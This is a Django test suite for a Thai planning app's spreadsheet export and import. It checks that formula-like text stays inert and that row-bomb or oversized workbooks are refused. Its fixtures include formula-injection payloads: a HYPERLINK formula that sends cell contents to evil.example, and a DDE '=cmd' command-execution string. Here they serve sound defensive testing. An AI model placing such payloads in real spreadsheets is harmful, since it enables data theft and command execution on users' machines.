"""The plan workbook as a file that leaves and comes back: text stays text, bombs are refused."""

from __future__ import annotations

import re
import time
import zipfile
from decimal import Decimal
from io import BytesIO

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from prongsai.plans.forms import PlanImportForm
from prongsai.plans.models import Budget, Project
from prongsai.plans.templates_data import create_plan
from prongsai.test import BaseTestCase
from prongsai.tests import hostile_files

FORMULA_LIKE = {
    "name": "=1+1",
    "rationale": '=HYPERLINK("http://evil.example/?d="&A1,"คลิก")',
    "objectives": "@SUM(A1:A9)",
    "target_group": "+66 81 234 5678",
    "method": "- ประชุมชี้แจง\n- ลงพื้นที่",
    "outputs": "-2+3",
}


class PlanFileTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.plan = create_plan(cls.org_a, "แผนปฏิบัติการป้องกันการทุจริต (พ.ศ. ๒๕๖๖ – ๒๕๗๐)")
        cls.sub = cls.plan.dimensions.get(number=1).subsections.first()

    def export(self) -> bytes:
        self.login(self.officer_a)
        response = self.client.get(reverse("plans:export", args=[self.org_a.slug, self.plan.pk]))
        self.assertEqual(response.status_code, 200)
        return response.content

    def upload(self, content: bytes, name: str = "plan.xlsx"):
        self.login(self.officer_a)
        return self.client.post(
            reverse("plans:import", args=[self.org_a.slug, self.plan.pk]),
            {"file": SimpleUploadedFile(name, content)},
        )

    def counts(self) -> tuple[int, int]:
        return Project.objects.count(), Budget.objects.count()

    def test_text_that_looks_like_a_formula_survives_export_and_import(self):
        project = Project.objects.create(
            plan=self.plan, subsection=self.sub, order=1, start_year=2566, end_year=2567,
            responsible_text="=cmd|' /C calc'!A0", **FORMULA_LIKE,
        )  # fmt: skip
        Budget.objects.create(project=project, fiscal_year=2566, amount=Decimal("12500.50"))

        exported = self.export()

        sheet_xml = zipfile.ZipFile(BytesIO(exported)).read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet_xml)  # no cell of the export is a formula
        book = load_workbook(BytesIO(exported))
        sheet = book["projects"]
        header = [c.value for c in sheet[1]]
        row = {h: cell for h, cell in zip(header, sheet[2], strict=True)}
        for column, text in FORMULA_LIKE.items():
            self.assertEqual((row[column].value, row[column].data_type), (text, "s"), column)
        self.assertTrue(row["name"].quotePrefix)  # Excel keeps it text even when edited
        # Numbers stay numbers.
        self.assertEqual((row["budget_2566"].value, row["budget_2566"].data_type), (12500.5, "n"))
        self.assertEqual(row["start_year"].data_type, "n")

        # Edited (saved again) in a spreadsheet program and brought back unchanged.
        out = BytesIO()
        book.save(out)
        response = self.upload(out.getvalue())

        self.assertEqual(response.status_code, 302)
        project.refresh_from_db()
        for column, text in FORMULA_LIKE.items():
            self.assertEqual(getattr(project, column), text)
        self.assertEqual(project.responsible_text, "=cmd|' /C calc'!A0")
        self.assertEqual(project.budgets.get().amount, Decimal("12500.50"))

    def test_a_workbook_of_millions_of_rows_is_refused_in_seconds_and_writes_nothing(self):
        Project.objects.create(
            plan=self.plan, subsection=self.sub, order=1, name="เดิม", start_year=2566, end_year=2570
        )
        columns = ["id", "order", "subsection", "kind", "name", "start_year", "end_year"]
        bomb = hostile_files.rows_bomb(columns, 3_000_000, sheet="projects")
        before = self.counts()

        started = time.perf_counter()
        response = self.upload(bomb, "แผน.xlsx")

        self.assertLess(time.perf_counter() - started, 5)
        self.assertEqual(response.status_code, 400)
        self.assertContains(response, "แผน.xlsx", status_code=400)
        self.assertContains(response, "เกินขีดจำกัด", status_code=400)
        self.assertEqual(self.counts(), before)

    def test_a_declared_million_rows_is_refused_before_reading(self):
        bomb = hostile_files.xlsx(
            [hostile_files.header_row(["name"])], sheet="projects", dimension="A1:B1048576"
        )

        response = self.upload(bomb)

        self.assertContains(response, "1,048,576 แถวตามที่ไฟล์ระบุ", status_code=400)

    def test_budgets_a_database_cannot_hold_are_problems_not_errors(self):
        book = load_workbook(BytesIO(self.export()))
        sheet = book["projects"]
        header = [c.value for c in sheet[1]]
        row = dict.fromkeys(header)
        row |= {"order": 1, "subsection": self.sub.code, "kind": "project", "name": "ก",
                "start_year": 2566, "end_year": 2567}  # fmt: skip
        for budget in ("1e13", "NaN", "Infinity"):
            sheet.append([*row.values()][: header.index("budget_2566")] + [budget])
        sheet.append([*({**row, "id": "²"}).values()])
        out = BytesIO()
        book.save(out)
        before = self.counts()

        response = self.upload(out.getvalue())

        self.assertEqual(response.status_code, 400)
        text = response.content.decode()
        self.assertEqual(len(re.findall(r"แถว [2-4] คอลัมน์ budget_2566", text)), 3)
        self.assertIn("แถว 5 คอลัมน์ id", text)
        self.assertEqual(self.counts(), before)

    def test_an_upload_past_ten_megabytes_is_not_read(self):
        big = SimpleUploadedFile("plan.xlsx", b"PK" + b"\0" * (10 * 1024 * 1024))

        form = PlanImportForm({}, {"file": big})

        self.assertFalse(form.is_valid())
        self.assertEqual(form.errors["file"], ["ไฟล์มีขนาดเกิน 10 MB"])
